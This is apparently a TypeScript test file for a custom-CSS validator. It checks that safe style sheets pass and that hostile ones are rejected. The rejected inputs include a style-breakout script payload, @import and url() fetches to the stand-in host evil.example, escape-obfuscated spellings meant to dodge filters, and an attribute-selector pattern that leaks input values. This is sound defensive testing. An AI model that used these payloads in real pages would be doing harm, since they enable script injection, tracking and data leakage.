import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { faultOfCss } from './custom-css.ts';

describe('a style sheet of the project’s own', () => {
  it.each([
    '',
    '.launcher { color: #fff; border-radius: 4px }',
    ':host { --accent: rebeccapurple }\n@media (width <= 600px) { .panel { inset: 0 } }',
    '.a::before { content: "\\201C" } .b::after { content: "</span>" }',
    '.a { background: url(data:image/png;base64,AAAA) }',
    ".a { background: url( 'data:image/svg+xml,%3Csvg/%3E' ) }",
    '@supports (display: grid) { .a > .b { display: grid } }',
    '.curl { color: red } .url { color: red }',
  ])('may be: %s', (css) => {
    expect(faultOfCss(css)).toBeNull();
  });

  it.each([
    '</style><script>alert(1)</script>',
    '</STYLE >',
    '<!-- -->',
    "@import 'https://evil.example/a.css';",
    '@IMPORT url(data:text/css,x)',
    '@\\69mport "https://evil.example/a.css"',
    '.a { background: url(https://evil.example/?q) }',
    '.a { background: URL( "//evil.example" ) }',
    '.a { background: url(/track) }',
    '.a { background: url() }',
    '.a { background: \\75 rl(https://evil.example) }',
    '.a { background: \\000075rl(https://evil.example) }',
    '.a { background: u\\72\nl(https://evil.example) }',
    '.a { background: \\u\\r\\l(https://evil.example) }',
    '.a { background: url(data:text/html,x) }',
    '.a { background: url(data:image/png,x), url(https://evil.example) }',
    '.a { background: image-set("https://evil.example" 1x) }',
    '.a { background: -webkit-image-set("https://evil.example" 1x) }',
    '.a { background: cross-fade("https://evil.example", red) }',
    '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
    'input[value^="a"] { background: src("https://evil.example/a") }',
    '.a { content: "/*"; background: url(https://evil.example); content: "*/" }',
  ])('may not be: %s', (css) => {
    expect(faultOfCss(css)).not.toBeNull();
  });

  it('never fetches, however its letters are escaped', () => {
    const letter = (character: string) =>
      fc.constantFrom(
        character,
        character.toUpperCase(),
        `\\${character.charCodeAt(0).toString(16)} `,
        `\\${character.charCodeAt(0).toString(16).padStart(6, '0')}`,
        `\\${character.toUpperCase().charCodeAt(0).toString(16)}\n`,
      );
    const spelled = (word: string) => fc.tuple(...[...word].map(letter)).map((letters) => letters.join(''));
    fc.assert(
      fc.property(
        fc.constantFrom('.a{background:', 'x '),
        spelled('url'),
        fc.constantFrom('(', '( ', '(\n"'),
        (before, url, open) => {
          expect(faultOfCss(`${before}${url}${open}https://evil.example)`)).not.toBeNull();
        },
      ),
    );
    fc.assert(
      fc.property(spelled('import'), (word) => {
        expect(faultOfCss(`@${word} "https://evil.example"`)).not.toBeNull();
      }),
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        faultOfCss(text);
      }),
    );
  });
});
